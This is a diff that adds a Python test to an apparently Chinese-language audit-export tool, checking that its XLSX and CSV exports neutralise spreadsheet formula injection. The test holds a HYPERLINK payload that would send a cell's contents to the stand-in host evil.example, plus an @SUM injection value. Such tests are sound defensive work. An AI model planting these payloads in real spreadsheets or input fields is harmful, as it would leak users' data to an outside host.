@@ -136,6 +136,25 @@ def test_xlsx_has_a_summary_and_a_sheet_per_rule_ready_to_print(
     assert workbook["变更记录"]["G2"].value == "换届"
 
 
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
+
+
+def test_no_export_writes_a_formula_and_text_reads_as_typed(engine: Engine, book: RuleBook) -> None:
+    units = [("10102", EVIL, "village", "101", "2000-01-01", "", "")]
+    events = [("101", "hearing", "2021-02-10", "", "@SUM(1+1)", "", "", "e1")]
+    load_county(engine, book, events, units=units)
+    listing = listing_of(engine, book, unit="101")
+    workbook = load_workbook(io.BytesIO(audit_xlsx.to_xlsx(listing, "zh", SHANGHAI, NOW)))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert [cell for cell in cells if cell.data_type == "f"] == []
+    assert EVIL in {cell.value for cell in cells}
+    assert any(cell.value == 1 for cell in cells if cell.data_type == "n")  # numbers stay numbers
+    rows = list(csv.reader(io.StringIO(audit_export.to_csv(listing, "zh", SHANGHAI).decode())))
+    texts = {cell for row in rows for cell in row}
+    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts
+    assert not [cell for cell in texts if cell.startswith(("=", "+", "@"))]
+
+
 def test_html_is_print_ready_and_escapes_what_people_typed(
     county_db: Engine, book: RuleBook
 ) -> None:
